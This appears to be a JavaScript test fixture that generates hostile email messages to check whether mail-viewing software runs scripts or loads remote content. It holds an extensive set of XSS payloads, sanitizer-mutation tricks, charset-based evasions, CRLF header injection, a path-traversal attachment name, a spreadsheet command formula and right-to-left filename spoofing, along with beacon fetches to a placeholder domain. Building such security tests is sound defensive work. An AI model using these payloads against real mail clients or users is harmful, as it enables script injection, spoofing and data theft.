// Mails as an attacker would write them, to be shown in every place that shows mail. Whatever runs in one of them leaves
// a mark: a dialog, a line on the console, an attribute on the page, a request. Addresses of images begin with "i", all
// others with "x", so that a count tells them apart once images were asked for.
export const mark = "red-team-ran";
export const beacon_domain = "beacon.example";

const image = (name) => `http://i.${beacon_domain}/i-${name}`;
const secure_image = (name) => `https://i.${beacon_domain}/i-${name}`;
const other = (name) => `http://x.${beacon_domain}/x-${name}`;
const secure_other = (name) => `https://x.${beacon_domain}/x-${name}`;

/** What a script would do; free of characters that end an attribute in double quotes or an encoded word. */
const script = (name) =>
  `alert('${mark} ${name}');console.log('${mark} ${name}');` +
  `top.document.documentElement.dataset.ran='${name}';fetch('${other(`fetch-${name}`)}')`;

const word = (text, charset = "utf-8") => `=?${charset}?B?${Buffer.from(text, "utf8").toString("base64")}?=`;
const base64 = (bytes) =>
  Buffer.from(bytes)
    .toString("base64")
    .replace(/(.{76})/g, "$1\n");

/** HTML that wants to run or to call home, one idea a piece. */
const pieces = {
  events: `<img src=x onerror="${script("img")}"><svg onload="${script("svg")}"></svg>
<body onload="${script("body")}"><details open ontoggle="${script("details")}"><summary>s</summary></details>
<input autofocus onfocus="${script("focus")}"><video src=x onerror="${script("video")}"></video>
<marquee onstart="${script("marquee")}">m</marquee><style>@keyframes k{from{left:0}}</style>
<p style="animation:k 1ms" onanimationstart="${script("animation")}">a</p>
<script>${script("script")}</script><script src="${other("script.js")}"></script>
<script type=module>${script("module")}</script><svg><script>${script("svg-script")}</script></svg>`,
  frames: `<iframe srcdoc="<script>${script("srcdoc")}</script>"></iframe><iframe src="javascript:${script("frame")}"></iframe>
<iframe src="data:text/html,<script>${script("data-frame")}</script>"></iframe><iframe src="${other("frame")}"></iframe>
<object data="data:text/html;base64,${Buffer.from(`<script>${script("object")}</script>`).toString("base64")}"></object>
<embed src="${other("embed")}"><object data="${secure_other("object")}" type="image/svg+xml"></object>
<frameset onload="${script("frameset")}"><frame src="${other("frameset")}"></frameset>`,
  links: `<a id=go href="javascript:${script("link")}">https://bank.example/</a>
<a href="data:text/html,<script>${script("data-link")}</script>">data</a><a href="${other("link")}" ping="${other("ping")}">x</a>
<a href="&#106;avascript:${script("entity-link")}">e</a><a href=" java\tscript:${script("tab-link")}">t</a>
<svg><a xlink:href="javascript:${script("svg-link")}"><text y=9>s</text></a></svg>
<form action="javascript:${script("form")}"><button id=send>send</button></form>
<form action="${other("form")}"><input name=password><button formaction="${secure_other("formaction")}">b</button></form>
<math><maction actiontype=statusline xlink:href="javascript:${script("maction")}">m</maction></math>`,
  head: `<meta http-equiv=refresh content="0;url=${other("refresh")}"><meta http-equiv="refresh" content="0;javascript:${script("refresh")}">
<meta http-equiv=Content-Security-Policy content="default-src *"><meta name=referrer content=unsafe-url>
<base href="${other("base")}/" target=_top><link rel=stylesheet href="${other("style.css")}">
<link rel="prefetch preload preconnect dns-prefetch modulepreload prerender" as=script href="${secure_other("prefetch")}">
<link rel=icon href="${other("icon")}"><link rel=manifest href="${other("manifest")}">
<script type=speculationrules>{"prerender":[{"urls":["${other("speculation")}"]}]}</script>`,
  style: `<style>@import url("${other("import.css")}");@import '${secure_other("import.css")}';
@font-face{font-family:f;src:url(${other("font")})} body{font-family:f;background:url(${image("css")})}
p{-moz-binding:url(${other("binding")}#b);behavior:url(${other("behavior")});width:expression(${script("expression")})}
p::after{content:url(${secure_image("content")})} li{list-style:url(${image("list")})} b{background:u\\72l(${image("escape")})}
p[class^=a]{background:image-set("${image("set")}" 1x)}</style><p class=a style="background:url('${image("attribute")}')">p</p>
<ul><li>l</ul><b>b</b></style><style></style/><img src=x onerror="${script("style-end")}">`,
  images: `<img src="${image("img")}"><img src="${secure_image("img")}"><img srcset="${image("srcset")} 1x">
<picture><source srcset="${image("picture")}"><img src="//i.${beacon_domain}/i-scheme"></picture><body background="${image("body")}">
<table background="${image("table")}"><td background="${image("td")}">t</table><svg><image href="${image("svg")}"/></svg>
<input type=image src="${image("input")}"><video poster="${image("poster")}" src="${other("video")}" autoplay></video>
<audio src="${other("audio")}" autoplay></audio><track src="${other("track")}">`,
  // What a browser makes of these after a sanitizer wrote them out again is known to differ from what was read.
  mutation: `<noscript><p title="</noscript><img src=x onerror=${script("noscript")}>"></noscript>
<svg></p><style><a id="</style><img src=x onerror=${script("svg-style")}>"></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script("mglyph")}&gt;"></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${script("form-math")}">
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=${script("select")}>">
<template shadowrootmode=open><img src=x onerror="${script("shadow")}"><slot></slot></template>
<svg><foreignObject><math><annotation-xml encoding="text/html"><img src=x onerror="${script("annotation")}"></math></svg>
<xmp><p title="</xmp><img src=x onerror=${script("xmp")}>"></xmp><textarea></textarea/><img src=x onerror="${script("textarea")}">
<title></title><img src=x onerror="${script("title")}"><listing>&lt;img src=x onerror=${script("listing")}&gt;</listing>`,
  comments: `<!--><img src=x onerror="${script("comment")}">--><!--!><img src=x onerror="${script("comment-bang")}">-->
<!-- a <!-- b --> <img src=x onerror="${script("comment-nested")}"> --><![CDATA[<img src=x onerror="${script("cdata")}">]]>
<?xml version="1.0"?><?php <img src=x onerror="${script("processing")}"> ?><!ENTITY x "<img src=x onerror=${script("entity")}>">
<!--[if gte IE 4]><img src=x onerror="${script("conditional")}"><![endif]-->${"<!--".repeat(2000)}-->`,
};

const subjects = {
  tags: `<script>${script("subject")}</script><img src=x onerror="${script("subject-img")}">`,
  breakout: `"><svg onload="${script("breakout")}">'-${script("quote")}-'\`\${${script("template")}}`,
};

let last = 0;
function mail(name, fields, body, { from = `${name}@doubtful.example` } = {}) {
  last += 1;
  const head = {
    From: `Red Team <${from}>`,
    To: "anna@example.test",
    Subject: `red team: ${name}`,
    Date: "Mon, 02 Nov 2026 10:00:00 +0000",
    "Message-ID": `<red-${last}@doubtful.example>`,
    "MIME-Version": "1.0",
    ...fields,
  };
  const lines = Object.entries(head)
    .filter(([, value]) => value !== null)
    .map(([field, value]) => `${field}: ${value}`);
  return { name, from, text: `${lines.join("\n")}\n\n${body}` };
}

const html_fields = (charset = "utf-8") => ({
  "Content-Type": `text/html; charset=${charset}`,
  "Content-Transfer-Encoding": "base64",
});
const page = (inner) => `<!doctype html><html><body><h1>still here</h1>${inner}<p>the end</p></body></html>`;

function multipart(kind, parts) {
  const written = parts.map(([fields, body]) => {
    const lines = Object.entries(fields).map(([field, value]) => `${field}: ${value}`);
    return `--edge\n${lines.join("\n")}\n\n${body}\n`;
  });
  return [{ "Content-Type": `multipart/${kind}; boundary="edge"` }, `${written.join("")}--edge--\n`];
}

const text_part = [{ "Content-Type": "text/plain; charset=utf-8" }, `A text. <img src=x onerror="${script("text")}">`];
const html_part = (inner) => [html_fields(), base64(page(inner))];
const attachment = (disposition, type = "application/octet-stream", body = "nothing") => [
  { "Content-Type": type, "Content-Disposition": disposition, "Content-Transfer-Encoding": "base64" },
  base64(body),
];

const utf7 = (text) =>
  text.replace(/[<>"'&]/g, (c) => {
    const bytes = Buffer.from([0, c.charCodeAt(0)]);
    return `+${bytes.toString("base64").replace(/=+$/, "")}-`;
  });

const svg_image = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script("svg-file")}"><script>${script("svg-file-script")}</script>
<image href="${image("svg-file")}"/></svg>`;

/** {name, from, text} for each; `text` is latin1: one character is one byte. Those with HTML have "has_html". */
export function redteam_mails() {
  const with_html = Object.entries(pieces).map(([name, inner]) =>
    mail(`html-${name}`, html_fields(), base64(page(inner))),
  );
  const deep = `${"<div>".repeat(100_000)}<img src=x onerror="${script("deep")}">${"<b><i>".repeat(5_000)}`;
  const names = [
    `attachment; filename="<img src=x onerror=${script("name").replaceAll('"', "")}>.txt"`,
    `attachment; filename*=utf-8''${encodeURIComponent(`"><svg onload=${script("name-svg")}>.png`)}`,
    `attachment; filename="${word(`</script><script>${script("name-word")}</script>.pdf`)}"`,
    `attachment; filename*=utf-8''..%2F..%2Fetc%2Fpasswd%00.txt%0D%0ASet-Cookie%3A%20a=b`,
    `attachment; filename*=utf-8''photo%E2%80%AEgpj.%3Cb%3E%3C/b%3E.exe.txt`,
    `inline; filename="javascript:${script("name-url")}.html"`,
  ];
  return [
    ...with_html.map((each) => ({ ...each, has_html: true })),
    { ...mail("html-deep", html_fields(), base64(page(deep))), has_html: true },
    mail("subject", { Subject: word(subjects.tags) }, subjects.tags),
    mail("breakout", { Subject: word(subjects.breakout), From: `${word(subjects.breakout)} <breakout@doubtful.example>` }, "t"),
    mail("raw-subject", { Subject: subjects.tags, From: `"<img src=x onerror=alert(1)>" <raw@doubtful.example>` }, "t"),
    mail("local-part", { From: `"<svg/onload=alert(1)>"@doubtful.example` }, "t", {
      from: `"<svg/onload=alert(1)>"@doubtful.example`,
    }),
    mail("formula", { From: "=1+1@doubtful.example", Subject: "=cmd|' /C calc'!A0" }, "t", {
      from: "=1+1@doubtful.example",
    }),
    mail("injection", {
      Subject: `=?utf-8?Q?a=0D=0ASet-Cookie:_a=3Db=0D=0A=0D=0A<script>${script("injection").replaceAll(" ", "_")}</script>?=`,
      From: `=?utf-8?Q?A=0D=0ATo:_b@example.test=0A?= <injection@doubtful.example>`,
      "X-Odd": `=?utf-8?Q?=00=1B[2J=0D=0AX:_y?=`,
    }, "t"),
    mail("bidi", {
      Subject: word("\u202Egpj.exe\u2066\u2067\u200F\u2028\u2029\u200B invoice \u202D<b>"),
      From: `${word("\u202Etset.elpmaxe@ssob\u202C \u{E0041}\u{E007F}")} <bidi@doubtful.example>`,
    }, base64("\u202E\u2066text\u0000 with \uFEFF marks\u0085\u2028")),
    mail("nul", { ...html_fields(), Subject: "=?utf-8?Q?nul=00<scr=00ipt>?=" },
      base64(page(`<scr\u0000ipt>${script("nul")}</scr\u0000ipt><img src=x on\u0000error="${script("nul-attribute")}">`))),
    mail("utf-7", { "Content-Type": "text/html; charset=utf-7" }, `still here ${utf7(`<script>${script("utf-7")}</script>`)}`),
    mail("utf-7-subject", { Subject: `=?utf-7?Q?${utf7(`<img src=x onerror=${script("utf-7-subject")}>`).replaceAll(" ", "_")}?=` }, "t"),
    mail("utf-16", html_fields("utf-16le"), base64(Buffer.from(page(`<script>${script("utf-16")}</script>`), "utf16le"))),
    mail("utf-16-mark", html_fields("us-ascii"),
      base64(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page(`<script>${script("utf-16-mark")}</script>`), "utf16le")]))),
    mail("escapes", { "Content-Type": "text/html; charset=iso-2022-jp" },
      `still here <p title="\x1b$B%"%"\x1b(B"><img alt="\x1b$B" src=x onerror="${script("escapes")}">`),
    mail("charset", { "Content-Type": `text/html; charset="utf-8\\"><script>${script("charset").replaceAll('"', "")}</script>"` }, page("c")),
    mail("overlong", { "Content-Type": "text/html; charset=utf-8" },
      `still here \xc0\xbcscript\xc0\xbe${script("overlong")}\xc0\xbc/script\xc0\xbe <\xff img src=x onerror=1>`),
    mail("names", ...multipart("mixed", [text_part, ...names.map((name) => attachment(name))])),
    mail("cid", ...multipart("related", [
      html_part(`<img src="cid:a@x"><img src="cid:b@x"><img src="cid:a@x%22onerror=${script("cid")}"><style>p{background:url(cid:b@x)}</style>`),
      [{ "Content-Type": "image/png", "Content-ID": "<a@x>", "Content-Transfer-Encoding": "base64" }, base64(svg_image)],
      [{ "Content-Type": "image/svg+xml", "Content-ID": "<b@x>", "Content-Transfer-Encoding": "base64" }, base64(svg_image)],
    ])),
    mail("files", ...multipart("mixed", [
      text_part,
      html_part(pieces.events),
      attachment('attachment; filename="page.html"', "text/html", pieces.events),
      attachment('attachment; filename="image.svg"', "image/svg+xml", svg_image),
      [{ "Content-Type": "message/rfc822" }, `Subject: ${subjects.tags}\nContent-Type: text/html\n\n${pieces.events}`],
    ])),
    mail("plain", { "Content-Type": "text/plain; charset=utf-8" },
      `${subjects.tags}\njavascript:${script("plain")}\n${other("plain-link")} data:text/html,<script>1</script>\n${subjects.breakout}`),
    mail("fields", {
      "X-Mailer": subjects.tags,
      "<img src=x onerror=alert(1)>": "an odd name",
      "Reply-To": subjects.breakout,
      "List-Unsubscribe": `<javascript:${script("unsubscribe")}>, <${other("unsubscribe")}>`,
    }, "t"),
  ];
}

/** Refused for `person` by the header alone, so that it is listed as rejected. */
export function rejected_mail(person, another) {
  return {
    ...mail("rejected", {
      From: `${word(subjects.tags)} <offers@pushy.example>`,
      Subject: word(subjects.breakout),
    }, "t", { from: "bounce@bulk.example" }),
    to: [person, another],
  };
}
